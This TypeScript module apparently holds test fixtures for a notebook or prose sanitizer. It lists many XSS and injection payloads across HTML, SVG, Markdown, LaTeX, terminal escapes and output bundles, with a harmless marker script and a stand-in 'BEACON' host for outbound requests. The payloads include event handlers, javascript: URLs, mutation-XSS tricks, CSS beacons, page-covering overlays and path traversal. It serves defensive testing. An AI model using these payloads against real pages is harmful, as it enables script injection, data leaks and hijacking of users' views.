/**
 * Everything by which an output or a piece of prose may try to run, to ask for something, to leave its box or to take
 * the page's place. `BEACON` stands for a server that counts who asks it, `HACK` for a script that says that it ran.
 *
 * @module
 */

const HACK = "globalThis.hacked=1;document.title='hacked'";
const B = "BEACON";

/** Markup for HTML outputs and prose. */
export const MARKUP: string[] = [
  `<script>${HACK}</script>`,
  `<p x"y title='" onpointerenter="${HACK}" autofocus tabindex="0" onfocus="${HACK}" a="'>x</p>`,
  `<p =x <b title='"><img src=x onerror="${HACK}">' lang='/'>x</p><p title="a\`b" id="c/">x</p>`,
  `<img/src=x alt='"/onerror=${HACK}/'/><a href="x/"title='>"<img src=x onerror=${HACK}>'>x</a>`,
  `<style>p::after { content: "&quot;} body{display:none} &lt;img src=x onerror=${HACK}&gt;" }</style><p>x</p>`,
  `<script src="${B}/script.js"></script>`,
  `<script type="module">import "${B}/module.js"</script>`,
  `<scr<script>ipt>${HACK}</script>`,
  `<img src=x onerror="${HACK}">`,
  `<img src="${B}/img.png">`,
  `<img srcset="${B}/set.png 1x">`,
  `<picture><source srcset="${B}/source.png"><img alt=""></picture>`,
  `<body onload="${HACK}" background="${B}/background.png">`,
  `<svg onload="${HACK}"></svg>`,
  `<details open ontoggle="${HACK}"><summary>a</summary></details>`,
  `<input autofocus onfocus="${HACK}">`,
  `<form action="${B}/choice"><label><input type="radio" name="getElementById" id="querySelector" required checked autofocus onfocus="${HACK}" onchange="${HACK}" form="f" formaction="${B}/radio" src="${B}/radio.png" style="background:url(${B}/radio-style.png);position:fixed;inset:0">x</label></form>`,
  `<label><svg><input type="radio" onfocus="${HACK}"/></svg><input type="radio&#9;" formaction="javascript:${HACK}"><math><input type="radio" name="x" onclick="${HACK}">x</label>`,
  `<div onpointerenter="${HACK}" style="position:fixed;inset:0;z-index:99999" class="cover">cover</div>`,
  `<style>:scope, * { position: fixed !important; inset: 0; z-index: 99999 }</style><p class="cover">cover</p>`,
  `<style>} body { display: none !important } html:before { content: url(${B}/css.png) }</style>`,
  `<style>@import "${B}/import.css"; @import url(${B}/import2.css);</style>`,
  `<style>@font-face { font-family: STIX2; src: url(${B}/font.woff2) } p { font-family: STIX2 }</style><p>x</p>`,
  `<style>[href^="h"] { background: url(${B}/leak.png) } p { list-style: image-set("${B}/set.png" 1x) }</style><p>x</p>`,
  `<p style="background:url(${B}/style.png);border-image:url('${B}/border.png')">x</p>`,
  `<p style="background:\\75\\72\\6c(${B}/escape.png)">x</p>`,
  `<style><!-- </style><img src=x onerror="${HACK}"> --></style>`,
  `<link rel="stylesheet" href="${B}/link.css"><link rel="prefetch" href="${B}/prefetch"><link rel="preconnect" href="${B}">`,
  `<meta http-equiv="refresh" content="0;url=${B}/refresh">`,
  `<base href="${B}/"><a href="relative.html">relative</a>`,
  `<a href="javascript:${HACK}">link</a><a href="java&#9;script:${HACK}">link</a><a href="&#1;javascript:${HACK}">link</a>`,
  `<a href="data:text/html,<script>${HACK}</script>">link</a><a href="blob:null/x">link</a><a href="vbscript:x">link</a>`,
  `<form action="${B}/form"><input name="a" value="b"><button>send</button></form><button formaction="${B}/button">send</button>`,
  `<form id="f" action="javascript:${HACK}"></form><button form="f">send</button>`,
  `<iframe src="${B}/frame"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="${B}/object"></object><embed src="${B}/embed"><applet archive="${B}/applet"></applet>`,
  `<video src="${B}/video" poster="${B}/poster" autoplay></video><audio src="${B}/audio" autoplay></audio>`,
  `<video><source src="${B}/source" onerror="${HACK}"></video><track src="${B}/track">`,
  `<table background="${B}/table.png"><tr><td background="${B}/td.png">x</td></tr></table>`,
  `</div></div></section></main><p class="escaped">out</p>`,
  `<table><tr><td>a</section></main></table><plaintext>`,
  `<noscript><p title="</noscript><img src=x onerror='${HACK}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HACK}&gt;">`,
  `<math href="javascript:${HACK}"><mi xlink:href="javascript:${HACK}" href="javascript:${HACK}">x</mi></math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${HACK}">x</maction></math>`,
  `<template><img src=x onerror="${HACK}"></template><div><template shadowrootmode="open"><img src=x onerror="${HACK}"></template></div>`,
  `<p id="main">m</p><p id="cell">c</p><img name="getElementById"><form name="body"></form><a id="querySelector" name="title">x</a>`,
  `<a class="skip" href="${B}/skip" target="_blank" ping="${B}/ping">x</a>`,
  `<button popovertarget="main" commandfor="main" command="show-modal">x</button><dialog open>x</dialog>`,
  `<marquee onstart="${HACK}">x</marquee><isindex action="javascript:${HACK}"><keygen autofocus onfocus="${HACK}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HACK}'><image href='${B}/nested.png'/></svg>">`,
  `<div contenteditable autofocus onfocus="${HACK}">x</div><p tabindex=1 onfocus="${HACK}" autofocus>x</p>`,
  `<textarea></textarea><title></title><xmp></xmp><listing><img src=x onerror="${HACK}"></listing>`,
  `<section&gt;></section&gt;><p class="escaped">x</p></main&gt;>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${HACK}"><style><a title="</style><img src=x onerror='${HACK}'>"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${HACK}">`,
  `<svg><foreignObject><math><mi><style><img title="</style><img src=x onerror='${HACK}'>"></mi></math></foreignObject></svg>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${HACK}'>">`,
  `<link rel="dns-prefetch" href="${B}"><link rel="modulepreload" href="${B}/pre.js"><link rel="manifest" href="${B}/manifest">`,
  `<portal src="${B}/portal"></portal><fencedframe src="${B}/fenced"></fencedframe><frameset onload="${HACK}"><frame src="${B}/f"></frameset>`,
  `<a href="&#x6A;avascript&colon;${HACK}">x</a><a href="java&NewLine;script:${HACK}">x</a><a href=javascript&#58;${HACK}>x</a>`,
  `<area href="javascript:${HACK}"><map name="m"><area href="javascript:${HACK}" shape="default"></map><img usemap="#m" src="${B}/map.png">`,
  "<p title=`onmouseover=" + HACK + " lang=a=b` class='a\tb\nc' id='x>y'>x</p>",
  `<p title="a/" lang='/>' class="><img/src=x/onerror=${HACK}>" data-a=/ data-b="=" onload=x>x</p>`,
  `<p title="\n" id="\u00a0onclick=${HACK}" lang="\f" class="&#12;onclick=${HACK}" data-x="\u2028onclick=1">x</p>`,
  `<p title="&amp;quot; onclick=${HACK}" lang="&amp;gt;<b>&amp;lt;img src=x onerror=${HACK}>">&amp;lt;img src=x onerror=${HACK}></p>`,
  `<p <h3 title="<h3 onclick=${HACK} "><h6 "onclick=${HACK} <h1="a">x</h6>`,
  `<h4 aria-level="<h5 onclick=${HACK}" id=">">x</h4><p title='</p><p onclick=${HACK}>'></p><p>`,
  `<li title="</li></ul>"><p title="</p><img src=x onerror=${HACK}>">x</p></li><pre title="<style>">x</pre><p title="</style><script>${HACK}</script>">`,
  `<button type="submit" formaction="javascript:${HACK}" formtarget="_top">x</button><input type="image" src="${B}/input.png" formaction="${B}">`,
  `<blockquote cite="${B}/cite">x</blockquote><q cite="javascript:${HACK}">x</q><ins cite="${B}">x</ins><html manifest="${B}/m" onload="${HACK}">`,
  `<img src="${B}/lazy.png" loading="lazy" lowsrc="${B}/low.png" dynsrc="${B}/dyn"><image src="${B}/image.png" onerror="${HACK}">`,
  `<style>p { background: u\\rl(${B}/u.png); cursor: url("${B}/c.png"), auto; --x: url(${B}/x.png); mask: var(--x) }</style><p>x</p>`,
  `<style>@namespace url(${B}/ns); @import/**/"${B}/i.css"; @charset "x"; @\\69mport "${B}/e.css"; p { src: image("${B}/i.png") }</style><p>x</p>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${B}/speculate"]}]}</script><script type="importmap">{}</script>`,
  `<a href="${B}/opener" target="_blank" rel="opener" attributionsrc="${B}/attribution">x</a><img attributionsrc="${B}/a2" alt="">`,
  `<table><tr><td bgcolor="red;background:url(${B}/bgcolor.png);position:fixed">x</td></tr></table><font color="red;background:url(${B}/font.png)">x</font>`,
  `<p style="color:red;background:red url(${B}/own.png);}body{display:none">x</p><p style="background:\\72 ed url(${B}/escaped.png);color:rgb(0,0,0);background-image:var(--x,url(${B}/var.png))">x</p>`,
  `<style>p { color: red } @media screen { p { background: #000 url(${B}/media.png) } } } } body { display: none } @scope (body) { p { background: red url(${B}/scope.png) } }</style><p>x</p>`,
  `<style>@counter-style x { system: cyclic; symbols: url(${B}/symbol.png) } @property --x { syntax: "<image>"; inherits: true; initial-value: url(${B}/property.png) } @page { background: url(${B}/page.png) } li { list-style: x } p { background: var(--x) }</style><p>x</p>`,
  `<div><template shadowrootmode="open" shadowrootclonable shadowrootserializable><style>:host { position: fixed; inset: 0; z-index: 99999 }</style><img src=x onerror="${HACK}"><slot></slot></template></div>`,
  `<math><mtext><form><div></form><form><mglyph><style><math><path id="</style><img src=x onerror='${HACK}'>"></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><title><style><img title="</style></title><img src=x onerror='${HACK}'>"></title></svg></annotation-xml></math>`,
  `<svg><desc><table><svg><style><g title="</style></svg></table></desc></svg><img src=x onerror='${HACK}'>"></g></style></svg></table></desc></svg>`,
  `<svg><template><p title="</template></svg><img src=x onerror='${HACK}'>">x</p></template></svg><math><template><mi title="</math><img src=x onerror='${HACK}'>"></mi></template></math>`,
  `${
    "<div>".repeat(509)
  }<svg><foreignObject><math><style><p title="</style><img src=x onerror='${HACK}'>"></p>`,
  `<!--><img src=x onerror="${HACK}">--><!--!><img src=x onerror="${HACK}">--><!---!><img src=x onerror="${HACK}">--!><?xml <img src=x onerror="${HACK}">?></!><img src=x onerror="${HACK}">`,
  `<noscript><style></noscript><img src=x onerror="${HACK}"></style></noscript><noembed><img title="</noembed><img src=x onerror='${HACK}'>"></noembed><noframes><p id="</noframes><img src=x onerror='${HACK}'>"></noframes>`,
  `<a href="https:javascript:${HACK}">x</a><a href="&#x200b;javascript:${HACK}">x</a><a href="feed:javascript:${HACK}">x</a><a href="filesystem:${B}/x">x</a><a href="view-source:${B}">x</a><a href="intent:x">x</a>`,
  `<video src="data:text/html,<script>${HACK}</script>" onloadstart="${HACK}"></video><audio src="data:audio/x,x" onerror="${HACK}"></audio><img src="data:text/html,<script>${HACK}</script>">`,
  `<img name="currentScript"><img name="fonts"><form name="documentElement"></form><a id="CSS">x</a><a id="navigator" name="location">x</a><img name="querySelectorAll"><p id="said">x</p>`,
  `<a class="symbol" href="#x">x</a><a class="symbol s99999" href="#x">x</a><div class="block">x</div><div class="block"><code>x</code></div><code data-t="">x</code><code data-t="\uffff\uffff">x</code><code data-t="AAA">x</code>`,
  `<div class="tips">x</div><p class="opening contents search results everything" role="status">x</p><nav class="contents"><a href="#%">x</a><a href="#nowhere">x</a></nav><span class="equation"><a>x</a></span>`,
  `<main id="x"><section id="y" class="code"><details></details></section></main><header><nav><a rel="search" href="${B}/search">x</a></nav></header>`,
  `<div style="position:sticky;top:0;margin-top:-9999px;height:20000px;z-index:99999;background:red" class="cover">x</div><div style="transform:translateY(-999px) scale(99)" class="cover">x</div>`,
  `<div style="view-transition-name:root;anchor-name:--a;position:fixed;position-anchor:--a;top:anchor(bottom);translate:0 -50vh;width:100vw;height:100vh" class="cover">x</div>`,
  `<p id="__proto__">x</p><p id="constructor">x</p><a href="#__proto__">x</a><label for="toString">x</label><p aria-labelledby="hasOwnProperty valueOf">x</p>`,
  `<link rel="icon" href="${B}/icon.png"><link rel="preload" as="image" href="${B}/preload.png"><link rel="expect" blocking="render" href="#never"><style blocking="render" media="all" onload="${HACK}">p{}</style>`,
  `<p style='font-family:"</style><img src=x onerror=${HACK}>";color:red'>x</p><p style="color:red;content:'}';background:red;--a:{background:url(${B}/nested.png)}">x</p>`,
  `<input type="hidden" oncontentvisibilityautostatechange="${HACK}" style="content-visibility:auto"><p onscrollend="${HACK}" onbeforematch="${HACK}" hidden="until-found">x</p><p inert onanimationstart="${HACK}" style="animation:x">x</p>`,
];

/** SVG for outputs. */
export const PICTURES: string[] = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${HACK}</script></svg>`,
  `<svg><script href="${B}/svg.js"/><script xlink:href="${B}/svg2.js"></script></svg>`,
  `<svg><a href="javascript:${HACK}"><rect width="9" height="9"/></a><a xlink:href="javascript:${HACK}"><text>x</text></a></svg>`,
  `<svg><rect width="9" height="9" onclick="${HACK}" onmouseover="${HACK}"/></svg>`,
  `<svg><image href="${B}/svg.png"/><image xlink:href="${B}/svg2.png"/><feImage href="${B}/fe.png"/></svg>`,
  `<svg><use href="${B}/use.svg#a"/><use href="data:image/svg+xml,<svg id='a' onload='${HACK}'></svg>#a"/></svg>`,
  `<svg><foreignObject width="9" height="9"><iframe src="${B}/frame"></iframe><body onload="${HACK}"><script>${HACK}</script></body></foreignObject></svg>`,
  `<svg><a id="l"><animate attributeName="href" values="javascript:${HACK}"/><text>x</text></a><set href="#l" attributeName="xlink:href" to="javascript:${HACK}"/></svg>`,
  `<svg><animate onbegin="${HACK}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${HACK}"/></svg>`,
  `<svg><rect fill="url(${B}/fill.svg#a)" filter="url(${B}/filter.svg#a)" mask="url(${B}/mask.svg#a)" style="fill:url(${B}/style.svg#a)"/></svg>`,
  `<svg><style>@import url(${B}/svg.css); rect { fill: url(${B}/rule.svg#a) } } body { display: none }</style><rect/></svg>`,
  `<svg style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99999" class="cover"><style>:scope{position:fixed;inset:0}</style></svg>`,
  `<svg><title><img src=x onerror="${HACK}"></title><desc><script>${HACK}</script></desc></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror='${HACK}'>">`,
  `<svg><style>&lt;/style>&lt;img src=x onerror=${HACK}&gt;</style></svg>`,
  `<svg><![CDATA[><script>${HACK}</script>]]></svg><!ENTITY x SYSTEM "${B}/entity">`,
  `<svg><foreignObject><p title="</foreignObject></svg><img src=x onerror=${HACK}>">x</p><style>p{background:url(${B}/fo.png)}</style></foreignObject></svg>`,
  `<svg><use xlink:href="data:text/html,<script>${HACK}</script>#a"/><use href="//${
    B.slice(0)
  }/u.svg#a"/><mpath href="${B}/m.svg#a"/><textPath href="${B}/t.svg#a">x</textPath></svg>`,
  `<svg><linearGradient href="${B}/g.svg#a"/><animateMotion path="M0 0" onend="${HACK}"/><set attributeName="style" to="background:url(${B}/set.png)"/><handler type="text/javascript">${HACK}</handler></svg>`,
  `<svg><rect width="9" height="9"><set attributeName="mask" to="url(${B}/smask.svg#a)"/><animate attributeName="filter" values="url(${B}/sfilter.svg#a);none" dur="1s"/><set attributeName="clip-path" to="url(${B}/sclip.svg#a)"/><set attributeName="fill" from="url(${B}/sfill.svg#a)" by="url(${B}/by.svg#a)" to="red"/></rect></svg>`,
  `<svg><a><text>x</text><set attributeName=" href" to="javascript:${HACK}"/><set attributeName="href " to="javascript:${HACK}"/><set attributeName="xlink:HREF" to="javascript:${HACK}"/></a></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${HACK}"><text>x</text></a><x:script>${HACK}</x:script><html:script xmlns:html="http://www.w3.org/1999/xhtml">${HACK}</html:script></svg>`,
  `<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${B}/inner.png'/><script>parent.hacked=1</script></svg>"/><feImage href="data:image/svg+xml,<svg onload='${HACK}'/>"/></svg>`,
  `<svg><text style="color:red" fill="red"><tspan onbegin="${HACK}">x</tspan></text><view id="v"/><cursor href="${B}/cursor"/><font-face-uri href="${B}/font.svg#f"/><glyphRef href="${B}/glyph"/><tref href="${B}/tref#t"/><color-profile href="${B}/icc"/></svg>`,
  `<svg class="opening tips" width="9e9" height="9e9" viewBox="0 0 1 1" overflow="visible"><rect class="cover" x="-9999" y="-9999" width="99999" height="99999" style="pointer-events:all"/></svg>`,
  `<svg><foreignObject width="1" height="1" style="overflow:visible"><div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:9" class="cover">x</div></foreignObject></svg>`,
];

/** Prose. */
export const PROSE: string[] = [
  `[a](javascript:${HACK}) [b](<java\tscript:${HACK}>) [c](data:text/html,x) <javascript:${HACK}>`,
  `![a](${B}/md.png) ![b](javascript:${HACK}) ![c](attachment:evil.svg) ![d](../../../../etc/passwd)`,
  `[a]: javascript:${HACK}\n\n[a] ![a]`,
  `$\\href{javascript:${HACK}}{x}$ $\\text{</math><script>${HACK}</script>}$ $\\class{"onclick="${HACK}}{x}$`,
  `$$\\includegraphics{${B}/tex.png} \\style{background:url(${B}/tex2.png)}{x} \\htmlData{onclick=x}{y}$$`,
  "```html\n</code></pre><script>" + HACK +
  "</script>\n```\n\n`<img src=x onerror=" + HACK + ">`",
  `# <img src=x onerror="${HACK}"> [x](javascript:${HACK}) "onclick="${HACK}\n\n> [!NOTE]\n> <script>${HACK}</script>`,
  `text[^1]\n\n[^1]: <script>${HACK}</script> <img src="${B}/note.png">`,
  `| symbol | meaning |\n| - | - |\n| $x$ | <img src="${B}/tip.png" onerror="${HACK}"><script>${HACK}</script> |\n\n$x$ $$x$$`,
  `<!-- --><script>${HACK}</script>\n\n<div>\n\n*a*\n\n</div></div></section></main><p class="escaped">`,
  `[a](https://a.b "\" onclick=${HACK} x=\"") [b](<#x> '<h3 onclick=${HACK}>') ![c](data:image/png;base64,AA== "' onload=${HACK}")`,
  `text[^"><img src=x onerror=${HACK}>]\n\n[^"><img src=x onerror=${HACK}>]: note`,
  `# a "b" \`onclick=${HACK}\` <c> = d\n\n##### e > f 'g'`,
  `$\\url{javascript:${HACK}}$ $\\htmlStyle{background:url(${B}/s.png)}{x}$ $$x \\label{"onclick=${HACK}} \\tag{<img src=x onerror=${HACK}>}$$ \\eqref{"onclick=${HACK}}`,
  '```"onclick=' + HACK +
  " <h3\n<h3 onclick=x>\n```\n\n<https://a.b/'onclick=" + HACK + ">",
  `$\\kern-60em\\rule{200em}{90em}$ and $\\mathllap{\\rule{99em}{99em}}$ and $\\raisebox{30em}{\\smash{\\rule{90em}{60em}}}$ and $\\mathrlap{\\rule[-50em]{90em}{99em}}$`,
  `$\\def\\x{\\x\\x}\\x$ $\\let\\frac\\x \\frac$ $\\class{tips}{x}$ $\\class{paper skip}{x}$ $\\cssId{main}{x}$ $\\cssId{"onclick=x}{y}$ $\\unicode{x3c}img src=x onerror=${HACK}\\unicode{62}$`,
  `$\\text{<img src=x onerror=${HACK}>}$ $\\href{data:text/html,<script>${HACK}</script>}{x}$ $\\textcolor{red;background:url(${B}/color.png)}{x}$ $\\colorbox{#fff" onclick="${HACK}}{x}$ $\\definecolor{x}{HTML}{"onclick=}\\textcolor{x}{y}$`,
  `$$x \\label{__proto__}$$ $$y \\label{constructor} \\tag{\\href{javascript:${HACK}}{1}}$$ \\eqref{__proto__} \\eqref{toString} $\\ref{hasOwnProperty}$`,
  `[x](javascript&colon;${HACK}) [y](JaVaScRiPt:${HACK}) [z](data:image/svg+xml,<svg/onload=${HACK}>) <javascript&#58;${HACK}> ![s](data:image/svg+xml,<svg/onload=${HACK}>)\n\n[d]: javascript:${HACK} "\\"><img src=x onerror=${HACK}>"\n\n[d]`,
  `<details><summary>\n\n# <svg onload=${HACK}>\n\n</summary>\n\n<style>\n\n* { display: none }\n\n</style>\n\n</details>\n\n<p title="\n\n**bold** <img src=x onerror=${HACK}>\n\n">x</p>`,
  `| symbol | meaning |\n| - | - |\n| $q$ | <style>*{display:none}</style></p></div><p class="escaped"> |\n| $r$ | $\\href{javascript:${HACK}}{x}$ [x](javascript:${HACK}) |\n\n$q$ $r$`,
  `> [!NOTE" onclick=${HACK}]\n> x\n\n> [!WARNING]\n> <div style="position:fixed;inset:0" class="cover">\n\nx[^__proto__]\n\n[^__proto__]: y`,
];

/** Names of all that has one: files, cells, languages, types, labels, footnotes, tags, settings. */
export const NAMES: string[] = [
  `"><img src=x onerror=${HACK}>`,
  `'onerror='${HACK}`,
  `x onerror=${HACK}`,
  `</title></style></script><script>${HACK}</script>`,
  `<!--`,
  `javascript:${HACK}`,
  `${B}/name`,
  "__proto__",
  "constructor",
  "$&$1$`$'",
  "100%",
  "#?&;",
  "a\nb",
  "\u202e\ue0000\ue000\ue0010\ue001",
  `&#xe001;0&#xe001;<img src=x onerror=${HACK}>`,
  `\ue0010\ue001 title="<img src=x onerror=${HACK}>"`,
  "../../../tmp/x",
  "javascript&colon;x",
  "\u001b]8;;javascript:x\u0007",
  "{{constructor.constructor('globalThis.hacked=1')()}}",
  "</textarea><svg/onload=x>",
];

/** Text for a terminal. */
export const TERMINAL: string[] = [
  `\u001b]8;;javascript:${HACK}\u001b\\link\u001b]8;;\u001b\\ \u001b]8;;${B}/osc\u0007x\u001b]8;;\u0007`,
  `\u001b[38;5;"onclick=x>m<b>\u001b[999999999999m x \u001b[1;;;;31;m<img src=x onerror=${HACK}>\u001b[0m`,
  `\u001b[48;2;1;1;1;background:url(${B}/ansi.png)mx\u001b]1337;File=inline=1:AAAA\u0007\u001bP<img src=x onerror=${HACK}>\u001b\\`,
  `<\rimg src=x onerror=${HACK}>\b\b<scr\bipt>${HACK}</script>`,
];

/** Outputs by their types, of which the richest is shown. */
export const BUNDLES: Record<string, unknown>[] = [
  {
    "application/vnd.vega.v5+json": {
      data: [{ name: "a", url: `${B}/vega.json` }],
      marks: [{
        type: "image",
        encode: { update: { url: { value: `${B}/vega.png` } } },
      }],
      usermeta: { embedOptions: { loader: { baseURL: B } } },
    },
    "image/svg+xml":
      `<svg onload="${HACK}"><image href="${B}/vega.svg"/></svg>`,
  },
  {
    "application/vnd.plotly.v1+json": {
      data: [],
      layout: { images: [{ source: `${B}/plotly.png` }] },
    },
  },
  {
    "application/vnd.jupyter.widget-view+json": {
      model_id: `"><script>${HACK}</script>`,
    },
    "text/plain": `<script>${HACK}</script>`,
  },
  { "application/javascript": HACK, "text/plain": "x" },
  {
    "application/json": JSON.parse(
      `{"__proto__":{"x":"</div><img src=x onerror=${HACK}>"},"toString":1,"length":-1}`,
    ),
  },
  { "application/json": "[".repeat(3000) + "]".repeat(3000) },
  { "text/html": [`<img src=x `, `onerror="${HACK}">`] },
  {
    "text/markdown":
      `<iframe srcdoc="<script>parent.hacked=1</script>">\n\n![x](${B}/bundle.png)`,
  },
  {
    "text/latex":
      `\\href{javascript:${HACK}}{x} \\includegraphics{${B}/latex.png}`,
  },
  {
    'image/svg+xml;x="><script>': `<svg onload="${HACK}"/>`,
    "text/plain": "x",
  },
  { "image/png": `x" onerror="${HACK}`, "image/jpeg": `' onerror='${HACK}` },
  {
    "application/pdf": "AA==",
    "application/x-msdownload": "AA==",
    "video/mp4": `${B}/video.mp4`,
  },
];
